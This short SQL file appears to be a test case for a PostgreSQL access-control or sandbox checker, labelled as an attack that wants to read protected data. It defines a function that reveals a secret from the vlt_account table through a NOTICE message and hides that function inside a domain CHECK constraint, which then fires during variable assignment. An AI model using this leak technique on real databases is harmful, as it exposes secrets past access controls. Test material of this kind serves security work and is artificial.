-- Assigns to a variable of a domain whose check tells what it reads.
-- wants: read
-- attack:
CREATE FUNCTION tells(v text) RETURNS boolean LANGUAGE plpgsql AS $f$
BEGIN RAISE NOTICE '%', (SELECT secret FROM vlt_account LIMIT 1); RETURN true; END $f$;
CREATE DOMAIN told AS text CHECK (tells(VALUE));
DO $$ DECLARE a told := 'x'; b int; BEGIN a := b; END $$;
DO $$ DECLARE r record; BEGIN FOR r IN SELECT 'x'::text AS v LOOP DECLARE t told[] := ARRAY[r.v]; BEGIN NULL; END; END LOOP; END $$;
